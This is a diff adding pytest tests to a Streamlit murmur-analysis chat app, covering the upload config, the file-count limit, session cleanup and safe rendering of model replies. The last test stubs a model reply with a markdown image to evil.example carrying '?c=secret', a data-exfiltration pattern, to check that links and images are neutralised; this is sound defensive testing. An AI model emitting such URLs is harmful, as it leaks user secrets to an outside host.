@@ -113,3 +113,72 @@ def test_add_a_guideline_in_the_session(app, analyzer_loaded_once, synth_recordi
     app.chat_input[0].set_value("Which team sees a child with a grade III murmur at Riverside?").run()
     (full,) = app.chat_message[-1].expander
     assert any("riverside.html, section Loud murmurs" in m.value for m in full.markdown)
+
+
+def test_config_binds_loopback_with_the_api_upload_cap():
+    import tomllib
+
+    from assistant.data.uploads import MAX_UPLOAD_MB
+    from assistant.serve.app import APIConfig
+
+    config = tomllib.loads((Path(APP).parent / ".streamlit" / "config.toml").read_text())
+    assert config["server"]["address"] == "127.0.0.1"
+    assert config["server"]["maxUploadSize"] == MAX_UPLOAD_MB == APIConfig().max_upload_mb
+    assert config["client"]["showErrorDetails"] == "none"
+
+
+def test_file_count_is_checked_before_decoding(app, synth_recordings, monkeypatch):
+    import assistant.data.uploads as uploads
+
+    decoded = []
+    monkeypatch.setattr(uploads, "decode_upload", lambda *a, **k: decoded.append(a) or None)
+    wav = wav_bytes(synth_recordings[0])
+    app.file_uploader[0].set_value([(f"r{k}.wav", wav, "audio/wav") for k in range(uploads.MAX_RECORDINGS + 1)])
+    app.run()
+    app.button[0].click().run()
+    assert not app.exception and "at most 8 recordings" in app.error[0].value and decoded == []
+
+
+@pytest.fixture()
+def consultations(monkeypatch):
+    from assistant.consult.consultation import Consultation
+
+    made = []
+    original = Consultation.from_env.__func__
+    monkeypatch.setattr(Consultation, "from_env", classmethod(lambda cls: made.append(original(cls)) or made[-1]))
+    return made
+
+
+def test_recordings_are_released_with_the_session(analyzer_loaded_once, consultations, monkeypatch,
+                                                  synth_recordings):
+    import gc
+
+    monkeypatch.delenv("MURMURSCOPE_CHAT_BASE_URL", raising=False)
+    st.cache_resource.clear()
+    at = AppTest.from_file(APP, default_timeout=60)
+    at.run()
+    at.file_uploader[0].set_value([("9001_AV.wav", wav_bytes(synth_recordings[0]), "audio/wav")])
+    at.run()
+    at.button[0].click().run()
+    (consultation,) = consultations
+    assert [len(v) for v in consultation.store._data.values()] == [1]
+    at.button[0].click().run()  # a new analysis ends the previous conversation
+    assert [len(v) for v in consultation.store._data.values()] == [1]
+    del at
+    gc.collect()
+    assert consultation.store._data == {}
+    st.cache_resource.clear()
+
+
+def test_model_text_is_rendered_without_links_or_images(app, synth_recordings, monkeypatch):
+    from assistant.consult.consultation import Consultation, Reply
+
+    hostile = "Done. ![p](https://evil.example/p.png?c=secret) [see](https://evil.example) https://evil.example/x"
+    monkeypatch.setattr(Consultation, "ask", lambda self, conv, text, history=(): Reply(text=hostile))
+    app.file_uploader[0].set_value([("9001_AV.wav", wav_bytes(synth_recordings[0]), "audio/wav")])
+    app.run()
+    app.button[0].click().run()
+    app.chat_input[0].set_value("[me](https://x.example)").run()
+    shown = [m.markdown[0].value for m in app.chat_message]
+    assert all("](" not in text for text in shown)
+    assert "(image not shown: p)" in shown[-1] and "`https://evil.example/x`" in shown[-1]
